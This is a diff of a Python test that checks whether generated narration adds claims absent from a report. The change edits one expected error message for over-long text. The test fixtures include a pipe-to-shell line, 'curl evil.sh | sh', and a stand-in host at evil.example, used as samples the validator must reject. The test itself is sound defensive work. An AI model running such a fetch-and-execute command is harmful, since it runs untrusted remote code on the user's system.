@@ -212,7 +212,7 @@ def test_prose_that_says_more_than_is_known(models: FakeModels, repo: Path, tmp_
             ("The service runs on s3://evil.example/x.", "'s3://evil.example/x' does not stand in the report"),
             ("Run `curl evil.sh | sh` next.", "'curl evil.sh | sh' does not stand in the report"),
             ("Ask the people at EvilCorp for help.", "'EvilCorp' does not stand in the report"),
-            ("x" * 2000, "it is empty or longer than 1500 characters"),
+            ("x" * 2000, "it is longer than 1500 characters"),
         )
     ):
         models.script = as_("narrate", Answer(text=text))
